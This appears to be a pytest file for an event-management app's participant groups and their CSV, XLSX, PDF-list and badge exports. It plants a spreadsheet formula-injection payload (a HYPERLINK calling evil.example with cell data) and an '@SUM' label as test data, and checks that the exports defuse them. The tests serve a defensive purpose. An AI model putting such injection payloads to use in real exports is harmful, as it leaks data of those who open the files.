"""Groups of participants and the exports of them: each format's content, only the
columns chosen, formulas defused in CSV and XLSX, the PDF list and the badges read
back with a text extractor."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pytest
from pypdf import PdfReader

from events.participant_columns import chosen_columns, course_columns, event_columns
from events.participant_export import (
    participant_sheet,
    sheet_csv,
    sheet_xlsx,
)
from events.participant_groups import course_participants, event_participants
from events.participant_pdf import Badge, badges_pdf, list_pdf
from events.question_models import Answer, ConsentOffer, ConsentRecord, Question
from kkp.extensions import db
from tests.events.course_factory import booking, course, person

EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"klick")'


@pytest.fixture(autouse=True)
def english(ctx):
    """The words of the files in English (German is the default)."""
    from flask_babel import force_locale

    with force_locale("en"):
        yield


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


@pytest.fixture
def date_with_people(make_event):
    event = make_event("Netzwerktreffen Süd")
    anna = person(event.id, "Anna Berger", organisation="Stadt Leipzig", attendance="present")
    person(event.id, EVIL, organisation="+49 Verein", email="evil@example.org")
    person(event.id, "Ben Cordes", "waiting")
    person(event.id, "Cem Demir", "cancelled")
    person(event.id, "Dora Ernst", attendance="absent")
    question = Question(event_id=event.id, kind="choices", label="Ernährung", position=1)
    offer = ConsentOffer(event_id=event.id, text="Mein Name darf auf die Liste.")
    db.session.add_all([question, offer])
    db.session.flush()
    db.session.add(Answer(question_id=question.id, registration_id=anna.id, value=["vegan", "-"]))
    db.session.add(ConsentRecord(consent_id=offer.id, registration_id=anna.id, text=offer.text))
    db.session.commit()
    return event, question, offer


def names(people) -> list[str]:
    return [p.name for p in people]


def test_groups_of_a_date(date_with_people):
    event, _, _ = date_with_people
    everyone = names(event_participants(event.id, "all"))
    assert everyone == ["Anna Berger", EVIL, "Dora Ernst", "Ben Cordes"]
    assert names(event_participants(event.id, "confirmed")) == ["Anna Berger", EVIL, "Dora Ernst"]
    (waiting,) = event_participants(event.id, "waiting")
    assert waiting.name == "Ben Cordes" and waiting.waiting_place == 1
    assert names(event_participants(event.id, "attended")) == ["Anna Berger"]
    assert names(event_participants(event.id, "absent")) == ["Dora Ernst"]


def test_groups_of_a_course_count_the_dates(make_event):
    series = course(make_event)
    booking(series, "Anna Berger", attendance=["present", "present", "present"])
    booking(series, "Ben Cordes", attendance=["present", "absent"])
    booking(series, "Cem Demir", attendance=["excused"])
    booking(series, "Dora Ernst", "waiting")
    booking(series, "Emil Fuchs", "cancelled")
    db.session.commit()
    assert names(course_participants(series.id)) == [
        "Anna Berger",
        "Ben Cordes",
        "Cem Demir",
        "Dora Ernst",
    ]
    assert names(course_participants(series.id, "attended")) == ["Anna Berger", "Ben Cordes"]
    assert names(course_participants(series.id, "absent")) == ["Ben Cordes", "Cem Demir"]
    assert names(course_participants(series.id, "waiting")) == ["Dora Ernst"]

    people = course_participants(series.id, "confirmed")
    columns = chosen_columns(course_columns(series, people), None)  # the defaults
    sheet = participant_sheet(series.title, columns, people)
    assert sheet.headings == ["Name", "Organisation", "Status", "Dates attended"]
    assert [row[3] for row in sheet.rows] == ["3 of 3", "1 of 3", "0 of 3"]
    dates = [c.key for c in course_columns(series, people) if c.key.startswith("d")]
    every_date = participant_sheet(
        series.title, chosen_columns(course_columns(series, people), ["name", *dates]), people
    )
    assert every_date.rows[1] == ["Ben Cordes", "present", "absent", ""]


def test_csv_has_the_chosen_columns_and_no_formulas(date_with_people):
    event, question, offer = date_with_people
    people = event_participants(event.id, "confirmed")
    columns = chosen_columns(
        event_columns(event, people), ["name", "organisation", f"q{question.id}", f"c{offer.id}"]
    )
    data = sheet_csv(participant_sheet(event.title, columns, people))
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "Name",
        "Organisation",
        "Ernährung",
        "Consent: Mein Name darf auf die Liste.",
    ]
    assert rows[1] == ["Anna Berger", "Stadt Leipzig", "vegan, -", "yes"]
    assert rows[2] == ["'" + EVIL, "'+49 Verein", "", ""]
    assert "anna@example.org" not in data.decode()  # e-mail not chosen


def test_xlsx_bold_frozen_dates_and_no_formulas(date_with_people):
    event, _, _ = date_with_people
    hostile = Question(event_id=event.id, kind="short_text", label="@SUM(1)\x07", position=2)
    db.session.add(hostile)
    db.session.commit()
    people = event_participants(event.id)
    keys = ["name", "email", "registered_at", f"q{hostile.id}"]
    columns = chosen_columns(event_columns(event, people), keys)
    book = openpyxl.load_workbook(
        io.BytesIO(sheet_xlsx(participant_sheet(event.title, columns, people)))
    )
    table = book.active
    assert [c.value for c in table[1]] == ["Name", "E-mail", "Registered at", "'@SUM(1)"]
    assert table["A1"].font.bold and table.freeze_panes == "A2"
    assert table.column_dimensions["A"].width > 20
    evil = table["A3"]
    assert evil.data_type == "s" and evil.value == "'" + EVIL
    assert all(c.data_type != "f" for row in table.iter_rows() for c in row)
    registered = table["C2"]
    assert isinstance(registered.value, datetime) and registered.is_date
    assert registered.value.tzinfo is None  # Berlin wall time


def test_the_pdf_list_repeats_its_headings(date_with_people):
    event, question, _ = date_with_people
    people = event_participants(event.id) * 20  # several pages
    columns = chosen_columns(event_columns(event, people), ["name", "organisation"])
    data = list_pdf(participant_sheet(event.title, columns, people), heading="KKP Dresden")
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) > 1
    assert reader.pages[0].mediabox.width < reader.pages[0].mediabox.height  # portrait
    for page in reader.pages:
        text = page.extract_text()
        assert "Organisation" in text and "KKP Dresden" in text and "Page" in text
    assert "Anna Berger" in pdf_text(data) and EVIL in pdf_text(data)

    wide = chosen_columns(event_columns(event, people), None) + chosen_columns(
        event_columns(event, people), ["email", "source", "registered_at"]
    )
    landscape = PdfReader(
        io.BytesIO(list_pdf(participant_sheet("x", wide, people[:3]), heading=""))
    )
    assert landscape.pages[0].mediabox.width > landscape.pages[0].mediabox.height


def test_badges_have_the_names_and_long_ones_fit(ctx):
    long_name = "Maximiliane Theodora von und zu Hohenzollern-Sigmaringen-Wittelsbach"
    badges = [Badge(f"Person {n}", "Stadt Leipzig", "Netzwerktreffen") for n in range(11)]
    badges.append(Badge(long_name, "", "Netzwerktreffen"))
    data = badges_pdf(badges, title="Namensschilder")
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) == 2  # ten a sheet
    text = pdf_text(data)
    assert "Person 0" in text and "Person 10" in text and "Stadt Leipzig" in text
    assert "Maximiliane" in text


def test_a_course_question_shows_on_the_course_and_on_each_date(make_event):
    series = course(make_event, dates=2)
    question = Question(series_id=series.id, kind="yes_no", label="Vegetarisch?")
    offer = ConsentOffer(series_id=series.id, text="Fotos")
    db.session.add_all([question, offer])
    db.session.flush()
    anna = booking(series, "Anna Berger")
    db.session.add(Answer(question_id=question.id, booking_id=anna.id, value=True))
    db.session.add(ConsentRecord(consent_id=offer.id, booking_id=anna.id, text="Fotos"))
    db.session.commit()
    keys = ["name", f"q{question.id}", f"c{offer.id}"]
    people = course_participants(series.id)
    sheet = participant_sheet("", chosen_columns(course_columns(series, people), keys), people)
    assert sheet.rows == [["Anna Berger", "yes", "yes"]]
    date = series.events[1]
    people = event_participants(date.id)
    sheet = participant_sheet("", chosen_columns(event_columns(date, people), keys), people)
    assert sheet.rows == [["Anna Berger", "yes", "yes"]]


def test_a_very_long_answer_is_shortened_in_the_pdf_list_only(ctx):
    import io

    from pypdf import PdfReader

    from events.participant_export import Sheet, sheet_csv
    from events.participant_pdf import list_pdf

    answer = "\n".join(f"Zeile {n} einer sehr langen Antwort" for n in range(100))
    sheet = Sheet(
        title="Kurs",
        headings=["Name", "Antwort"],
        widths=[30, 8],
        rows=[["Anna Berger", answer]],
    )
    text = PdfReader(io.BytesIO(list_pdf(sheet, heading="Kurs"))).pages[0].extract_text()
    assert "Anna Berger" in text and "Zeile 99" not in text
    assert "Zeile 99" in sheet_csv(sheet).decode("utf-8-sig")
